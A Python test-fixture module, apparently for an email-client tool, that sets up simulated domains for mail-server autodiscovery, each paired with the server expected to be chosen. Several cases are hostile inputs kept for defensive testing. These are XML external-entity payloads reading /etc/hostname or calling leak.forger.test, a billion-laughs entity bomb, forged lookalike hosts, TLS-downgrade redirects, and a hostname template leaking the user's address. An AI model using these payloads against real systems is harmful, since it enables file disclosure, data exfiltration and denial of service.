"""Domains as an outside judge of discovery sets them up, all in one small internet on loopback.

Each says what a person would call the right answer; nothing here looks at how it is found.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import NamedTuple

from smtpwizard.demo.connection import HANG
from tests.helpers.mail_world import MailWorld, config
from tests.helpers.name_server import BROKEN, SILENT
from tests.helpers.web_server import HANGS, Page


class Expected(NamedTuple):
    """The first candidate as `host:port security source`, with `!` where it is not to be trusted;
    None where nothing is to be offered. `warnings` are codes, `never` hosts that are not offered.
    `seen`: its server is there, and is to be seen; who is slow may be left before that.
    """

    domain: str
    first: str | None
    build: Callable[[MailWorld, str], None]
    warnings: tuple[str, ...] = ()
    never: tuple[str, ...] = ()
    seen: bool = False


def told(host: str, port: int, security: str, source: str, *, trusted: bool) -> str:
    """A candidate as `Expected.first` has it."""
    said = f"{host}:{port} {security} {source}"
    return said if trusted else f"{said} !"


def autoconfig(domain: str, scheme: str = "https") -> str:
    return f"{scheme}://autoconfig.{domain}/mail/config-v1.1.xml"


def well_known(domain: str) -> str:
    return f"https://{domain}/.well-known/autoconfig/mail/config-v1.1.xml"


def ispdb(domain: str) -> str:
    return f"https://v1.ispdb.net/{domain}"


def _srv(world: MailWorld, domain: str, *records: str, service: str = "_submissions") -> None:
    world.zone[f"{service}._tcp.{domain}"] = {"SRV": list(records)}


def _mx(world: MailWorld, domain: str, *records: str, **others: list[str]) -> None:
    world.zone[domain] = {"MX": list(records), **others}


# -- what is plain ---------------------------------------------------------------------------------


def known(world: MailWorld, domain: str) -> None:
    """Nothing of the domain's own is needed."""


def page(world: MailWorld, domain: str) -> None:
    world.page(autoconfig(domain), config((f"out.{domain}", 465, "SSL")))
    world.mail_server(f"out.{domain}", 465)


def page_at_the_well_known_place(world: MailWorld, domain: str) -> None:
    world.page(well_known(domain), config((f"out.{domain}", 587, "STARTTLS")))
    world.mail_server(f"out.{domain}", 587)


def page_in_the_clear(world: MailWorld, domain: str) -> None:
    world.page(autoconfig(domain, "http"), config((f"out.{domain}", 465, "SSL")))


def page_in_both_ways(world: MailWorld, domain: str) -> None:
    world.page(autoconfig(domain, "http"), config(("forger.test", 465, "SSL")))
    world.page(autoconfig(domain), config((f"out.{domain}", 465, "SSL")))


def automx2(world: MailWorld, domain: str) -> None:
    """As automx2 writes it: an empty identity, several domains, incoming servers first, and the
    address that it was asked for as user name."""
    servers = "".join(
        f'<{way}Server type="{kind}"><hostname>{kind}.{domain}</hostname><port>{port}</port>'
        f"<socketType>{security}</socketType><username>someone@{domain}</username>"
        f"<authentication>password-cleartext</authentication></{way}Server>"
        for way, kind, port, security in (
            ("incoming", "imap", 993, "SSL"),
            ("incoming", "pop3", 995, "SSL"),
            ("outgoing", "smtp", 465, "SSL"),
            ("outgoing", "smtp", 587, "STARTTLS"),
        )
    )
    body = (
        "<?xml version='1.0' encoding='utf-8'?>\n"
        f'<clientConfig version="1.1"><emailProvider id="automx2-100"><identity />'
        f"<domain>{domain}</domain><domain>other.example</domain>"
        f"<displayName>Big Hoster</displayName><displayShortName>Big</displayShortName>"
        f"{servers}</emailProvider></clientConfig>"
    )
    world.page(autoconfig(domain), body.encode())
    world.mail_server(f"smtp.{domain}", 465)


def newer_page(world: MailWorld, domain: str) -> None:
    body = config((f"out.{domain}", 465, "SSL"), method="OAuth2")
    body = body.replace(b'version="1.1"', b'version="1.2" xmlns="urn:x"')
    world.page(autoconfig(domain), body.replace(b"<emailProvider", b"<new/><emailProvider"))


def page_in_utf_16(world: MailWorld, domain: str) -> None:
    text = config((f"out.{domain}", 465, "SSL")).decode().partition("?>")[2]
    world.page(autoconfig(domain), text.encode("utf-16"))


def page_for_reading_alone(world: MailWorld, domain: str) -> None:
    world.page(autoconfig(domain), config())
    _srv(world, domain, f"0 1 465 out.{domain}.")


def list_of_providers(world: MailWorld, domain: str) -> None:
    world.page(ispdb(domain), config(("out.hoster.example", 465, "SSL")))


def hoster_by_its_exchanger(world: MailWorld, domain: str) -> None:
    _mx(world, domain, "10 mx7.hoster.example.")
    world.page(ispdb("hoster.example"), config(("out.hoster.example", 465, "SSL")))


# -- services --------------------------------------------------------------------------------------


def services_alone(world: MailWorld, domain: str) -> None:
    _srv(world, domain, f"0 1 465 mail.{domain}.")
    world.mail_server(f"mail.{domain}", 465)


def older_service_alone(world: MailWorld, domain: str) -> None:
    _srv(world, domain, f"0 1 587 mail.{domain}.", service="_submission")


def both_services(world: MailWorld, domain: str) -> None:
    _srv(world, domain, f"90 1 465 b.{domain}.")
    _srv(world, domain, f"0 1 587 a.{domain}.", service="_submission")


def many_services(world: MailWorld, domain: str) -> None:
    _srv(world, domain, *(f"{9 - n % 9} {n} 465 s{n}.{domain}." for n in range(80)))


def denied_services(world: MailWorld, domain: str) -> None:
    for service in ("_submissions", "_submission"):
        _srv(world, domain, "0 0 0 .", service=service)
    world.mail_server(f"smtp.{domain}", 587)
    world.mail_server(f"mail.{domain}", 465)


def one_service_denied(world: MailWorld, domain: str) -> None:
    _srv(world, domain, "0 0 0 .")
    _srv(world, domain, f"0 1 587 out.{domain}.", service="_submission")
    world.mail_server(f"smtp.{domain}", 465)


def service_elsewhere(world: MailWorld, domain: str) -> None:
    _srv(world, domain, "0 1 465 mail.hoster.example.")


def service_of_a_lookalike(world: MailWorld, domain: str) -> None:
    _srv(world, domain, f"0 1 465 mail.{domain}.forger.test.")


def service_at_an_odd_port(world: MailWorld, domain: str) -> None:
    _srv(world, domain, f"0 1 2465 mail.{domain}.")
    world.mail_server(f"mail.{domain}", 2465, implicit_tls=True)


# -- pages that are none ---------------------------------------------------------------------------

_HTML = b"<!DOCTYPE html>\n<html><head><title>Parked</title></head><body><br>Buy me</body></html>"


def _beside_a_service(answer: Page) -> Callable[[MailWorld, str], None]:
    """The same answer at all places of the domain, and one service record that is good."""

    def build(world: MailWorld, domain: str) -> None:
        for url in (autoconfig(domain), well_known(domain), autoconfig(domain, "http")):
            world.page(url, answer)
        _srv(world, domain, f"0 1 465 mail.{domain}.")

    return build


def parked(world: MailWorld, domain: str) -> None:
    """Every name leads to the same web server, which has a page for people."""
    world.zone[domain] = {"A": ["192.0.2.80"]}
    world.zone[f"*.{domain}"] = {"A": ["192.0.2.80"]}
    for url in (autoconfig(domain), well_known(domain), autoconfig(domain, "http")):
        world.page(url, Page(_HTML, kind="text/html"))


_DOCUMENT_TYPE = '<!DOCTYPE c [<!ENTITY leak SYSTEM "{}">]>'
_LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)
)  # a billion of them


def hostile(head: str, host: str = "&leak;") -> Page:
    return Page(config((host, 465, "SSL"), head=head))


def redirect_in_a_circle(world: MailWorld, domain: str) -> None:
    there, back = autoconfig(domain), f"https://r.{domain}/x"
    world.page(there, Page(status=302, headers={"Location": back}))
    world.page(back, Page(status=302, headers={"Location": there}))
    world.page(well_known(domain), config((f"out.{domain}", 465, "SSL")))


def redirect_without_end(world: MailWorld, domain: str) -> None:
    world.page(autoconfig(domain), Page(status=301, headers={"Location": f"https://r0.{domain}/x"}))
    for number in range(30):
        there = {"Location": f"https://r{number + 1}.{domain}/x"}
        world.page(f"https://r{number}.{domain}/x", Page(status=301, headers=there))
    _srv(world, domain, f"0 1 465 mail.{domain}.")


def redirect_to_the_clear(world: MailWorld, domain: str) -> None:
    there = {"Location": f"http://conf.{domain}/x"}
    world.page(autoconfig(domain), Page(status=302, headers=there))
    world.page(f"http://conf.{domain}/x", config(("forger.test", 465, "SSL")))


def redirect_out_of_the_clear(world: MailWorld, domain: str) -> None:
    """Who forged the first answer chose the second: no way leads to another scheme."""
    there = {"Location": "https://conf.hoster.example/y"}
    world.page(autoconfig(domain, "http"), Page(status=302, headers=there))
    world.page("https://conf.hoster.example/y", config(("out.hoster.example", 465, "SSL")))


def redirect_to_the_hoster(world: MailWorld, domain: str) -> None:
    there = {"Location": "https://conf.hoster.example/z"}
    world.page(autoconfig(domain), Page(status=301, headers=there))
    world.page("https://conf.hoster.example/z", config(("out.hoster.example", 465, "SSL")))


def certificate_of_another(world: MailWorld, domain: str) -> None:
    world.page(autoconfig(domain), config(("forger.test", 465, "SSL")))
    world.web.wrong.add(f"autoconfig.{domain}")
    _srv(world, domain, f"0 1 465 mail.{domain}.")


def host_with_the_address_in_it(world: MailWorld, domain: str) -> None:
    """A name that is looked up would carry the address to whoever owns it."""
    hosts = ("%EMAILLOCALPART%.forger.test", "%EMAILADDRESS%", f"out.{domain}")
    world.page(autoconfig(domain), config(*((host, 465, "SSL") for host in hosts)))


# -- encryption ------------------------------------------------------------------------------------


def plain_beside_encrypted(world: MailWorld, domain: str) -> None:
    hosts = ((f"out.{domain}", 25, "plain"), (f"out.{domain}", 465, "SSL"))
    world.page(autoconfig(domain), config(*hosts))
    world.mail_server(f"out.{domain}", 25, plain=True)
    world.mail_server(f"out.{domain}", 465)


def encryption_stripped(world: MailWorld, domain: str) -> None:
    world.page(autoconfig(domain), config((f"out.{domain}", 587, "STARTTLS")))
    world.mail_server(f"out.{domain}", 587, plain=True)


def plain_that_can_more(world: MailWorld, domain: str) -> None:
    world.page(autoconfig(domain), config((f"out.{domain}", 587, "plain")))
    world.mail_server(f"out.{domain}", 587)


# -- slow ------------------------------------------------------------------------------------------


def slow_pages(world: MailWorld, domain: str) -> None:
    head = b"HTTP/1.1 200 OK\r\n\r\n<clientConfig>"
    world.page(autoconfig(domain), Page(raw=head, drips=True))
    world.page(well_known(domain), HANGS)
    _srv(world, domain, f"0 1 465 mail.{domain}.")
    world.mail_server(f"mail.{domain}", 465)


def black_holes(world: MailWorld, domain: str) -> None:
    """Ten places that take the question, or the connection, and say nothing."""
    world.page(autoconfig(domain), config((f"out.{domain}", 465, "SSL")))
    world.mail_server(f"out.{domain}", 465)
    for name in (f"smtp.{domain}", f"mail.{domain}"):
        world.lead(name, None, world.hole)
    for name in (domain, f"_submissions._tcp.{domain}", f"_submission._tcp.{domain}"):
        world.zone[name] = {SILENT: []}


def slow_server(world: MailWorld, domain: str) -> None:
    world.page(autoconfig(domain), config((f"out.{domain}", 465, "SSL")))
    world.mail_server(f"out.{domain}", 465, {"greeting": HANG})


def broken_names(world: MailWorld, domain: str) -> None:
    world.zone[domain] = {BROKEN: []}
    world.page(autoconfig(domain), config((f"out.{domain}", 465, "SSL")))


# -- exchangers ------------------------------------------------------------------------------------


def at_google(world: MailWorld, domain: str) -> None:
    _mx(world, domain, "1 smtp.google.com.")


def at_microsoft(world: MailWorld, domain: str) -> None:
    """With the page that the web space brings, of a mail server that nobody uses."""
    _mx(world, domain, f"0 {domain.replace('.', '-')}.mail.protection.outlook.com.")
    world.page(autoconfig(domain), config((f"mail.{domain}", 465, "SSL")))


def _behind(exchanger: str, sign: str) -> Callable[[MailWorld, str], None]:
    def build(world: MailWorld, domain: str) -> None:
        _mx(world, domain, f"10 {exchanger}.")
        include = "include:spf.protection.outlook.com"
        if sign == "alias":
            world.zone[f"autodiscover.{domain}"] = {"CNAME": ["autodiscover.outlook.com."]}
        elif sign == "nested":
            world.zone[domain]["TXT"] = [f'"v=spf1 include:_spf.{domain} -all"']
            world.zone[f"_spf.{domain}"] = {"TXT": [f'"v=spf1 {include} -all"']}
        elif sign == "google":
            world.zone[domain]["TXT"] = ['"v=spf1 include:_spf.google.com ~all"']
        elif sign:
            world.zone[domain]["TXT"] = [f'"v=spf1 {include} -all"']

    return build


def no_mail_in(world: MailWorld, domain: str) -> None:
    _mx(world, domain, "0 .")


def no_mail_in_but_out(world: MailWorld, domain: str) -> None:
    _mx(world, domain, "0 .")
    services_alone(world, domain)


# -- nothing but a server --------------------------------------------------------------------------


def usual_name(world: MailWorld, domain: str) -> None:
    world.mail_server(f"mail.{domain}", 587)
    world.mail_server(f"mail.{domain}", 25)


def usual_name_with_anothers_certificate(world: MailWorld, domain: str) -> None:
    world.mail_server(f"smtp.{domain}", 465, certificate="shared.hoster.example")


_OUTLOOK = "smtp.office365.com:587 starttls mx !"

DOMAINS: tuple[Expected, ...] = (
    Expected("gmail.com", "smtp.gmail.com:587 starttls catalogue", known, seen=True),
    Expected("hotmail.co.uk", "smtp-mail.outlook.com:587 starttls catalogue", known),
    Expected("page.example", "out.page.example:465 implicit_tls autoconfig", page, seen=True),
    Expected(
        "well-known.example", "out.well-known.example:587 starttls autoconfig",
        page_at_the_well_known_place, seen=True,
    ),
    Expected(
        "clear.example", "out.clear.example:465 implicit_tls autoconfig !", page_in_the_clear
    ),
    Expected(
        "both-ways.example", "out.both-ways.example:465 implicit_tls autoconfig",
        page_in_both_ways,
    ),
    Expected("automx2.example", "smtp.automx2.example:465 implicit_tls autoconfig", automx2,
             seen=True),
    Expected("newer.example", "out.newer.example:465 implicit_tls autoconfig", newer_page),
    Expected("utf-16.example", "out.utf-16.example:465 implicit_tls autoconfig", page_in_utf_16),
    Expected("reading.example", "out.reading.example:465 implicit_tls srv",
             page_for_reading_alone),
    Expected("listed.example", "out.hoster.example:465 implicit_tls ispdb", list_of_providers),
    Expected("hosted.example", "out.hoster.example:465 implicit_tls ispdb !",
             hoster_by_its_exchanger),
    Expected("services.example", "mail.services.example:465 implicit_tls srv", services_alone,
             seen=True),
    Expected("older.example", "mail.older.example:587 starttls srv", older_service_alone),
    Expected("both.example", "b.both.example:465 implicit_tls srv", both_services),
    Expected("many.example", "s71.many.example:465 implicit_tls srv", many_services),
    Expected("denied.example", None, denied_services, ("service_denied", "service_denied")),
    Expected("half-denied.example", "out.half-denied.example:587 starttls srv",
             one_service_denied, ("service_denied",), ("smtp.half-denied.example",)),
    Expected("elsewhere.example", "mail.hoster.example:465 implicit_tls srv !",
             service_elsewhere),
    Expected("lookalike.example", "mail.lookalike.example.forger.test:465 implicit_tls srv !",
             service_of_a_lookalike),
    Expected("odd-port.example", "mail.odd-port.example:2465 implicit_tls srv",
             service_at_an_odd_port, seen=True),
    Expected("html.example", "mail.html.example:465 implicit_tls srv",
             _beside_a_service(Page(_HTML, kind="text/html"))),
    Expected("parked.example", None, parked),
    Expected("file.example", "mail.file.example:465 implicit_tls srv",
             _beside_a_service(hostile(_DOCUMENT_TYPE.format("file:///etc/hostname")))),
    Expected("fetch.example", "mail.fetch.example:465 implicit_tls srv",
             _beside_a_service(hostile(_DOCUMENT_TYPE.format("http://leak.forger.test/x")))),
    Expected("laughs.example", "mail.laughs.example:465 implicit_tls srv",
             _beside_a_service(hostile(f"<!DOCTYPE c [{_LAUGHS}]>", "&l9;"))),
    Expected("large.example", "mail.large.example:465 implicit_tls srv",
             _beside_a_service(Page(config(("forger.test", 465, "SSL")) + b" " * 300_000))),
    Expected("deep.example", "mail.deep.example:465 implicit_tls srv",
             _beside_a_service(Page(b"<clientConfig>" * 5_000))),
    Expected("circle.example", "out.circle.example:465 implicit_tls autoconfig",
             redirect_in_a_circle),
    Expected("endless.example", "mail.endless.example:465 implicit_tls srv",
             redirect_without_end),
    Expected("downgrade.example", None, redirect_to_the_clear, never=("forger.test",)),
    Expected("upgrade.example", None, redirect_out_of_the_clear, never=("out.hoster.example",)),
    Expected("led.example", "out.hoster.example:465 implicit_tls autoconfig",
             redirect_to_the_hoster),
    Expected("wrong-name.example", "mail.wrong-name.example:465 implicit_tls srv",
             certificate_of_another, never=("forger.test",)),
    Expected("leaking.example", "out.leaking.example:465 implicit_tls autoconfig",
             host_with_the_address_in_it),
    Expected("mixed.example", "out.mixed.example:465 implicit_tls autoconfig",
             plain_beside_encrypted, seen=True),
    Expected("stripped.example", "out.stripped.example:587 starttls autoconfig",
             encryption_stripped),
    Expected("can-more.example", "out.can-more.example:587 starttls autoconfig",
             plain_that_can_more, seen=True),
    Expected("slow.example", "mail.slow.example:465 implicit_tls srv", slow_pages),
    Expected("holes.example", "out.holes.example:465 implicit_tls autoconfig", black_holes),
    Expected("slow-server.example", "out.slow-server.example:465 implicit_tls autoconfig",
             slow_server),
    Expected("broken.example", "out.broken.example:465 implicit_tls autoconfig", broken_names),
    Expected("bücher.example", "mail.xn--bcher-kva.example:465 implicit_tls srv",
             lambda world, _: services_alone(world, "xn--bcher-kva.example"), seen=True),
    Expected("xn--mller-kva.example", "mail.xn--mller-kva.example:465 implicit_tls srv",
             services_alone, seen=True),
    Expected("google.example", "smtp.gmail.com:587 starttls mx !", at_google, seen=True),
    Expected("microsoft.example", _OUTLOOK, at_microsoft, seen=True),
    Expected("mimecast.example", _OUTLOOK, _behind("eu-smtp-inbound-1.mimecast.com", "spf"),
             ("filter",)),
    Expected("proofpoint.example", _OUTLOOK, _behind("mxa-001.gslb.pphosted.com", "alias"),
             ("filter",)),
    Expected("barracuda.example", _OUTLOOK, _behind("d1.ess.barracudanetworks.com", "nested"),
             ("filter",)),
    Expected("hornet.example", _OUTLOOK, _behind("mx01.hornetsecurity.com", "spf"), ("filter",)),
    Expected("behind-google.example", "smtp.gmail.com:587 starttls mx !",
             _behind("mx1-eu1.ppe-hosted.com", "google"), ("filter",), seen=True),
    Expected("filtered.example", None, _behind("mx.spamexperts.com", ""), ("filter",)),
    Expected("null.example", None, no_mail_in, ("null_mx",)),
    Expected("null-but.example", "mail.null-but.example:465 implicit_tls srv",
             no_mail_in_but_out, ("null_mx",), seen=True),
    Expected("usual.example", "mail.usual.example:587 starttls probe !", usual_name, seen=True),
    Expected("shared.example", None, usual_name_with_anothers_certificate),
    Expected("nothing.example", None, known),
)  # fmt: skip


def build(world: MailWorld) -> Mapping[str, Expected]:
    """Set all of them up, and two of the large providers."""
    world.mail_server("smtp.gmail.com", 587, mechanisms=("PLAIN", "XOAUTH2"))
    world.mail_server("smtp.office365.com", 587, mechanisms=("LOGIN", "XOAUTH2"))
    for each in DOMAINS:
        each.build(world, each.domain)
    return {each.domain: each for each in DOMAINS}
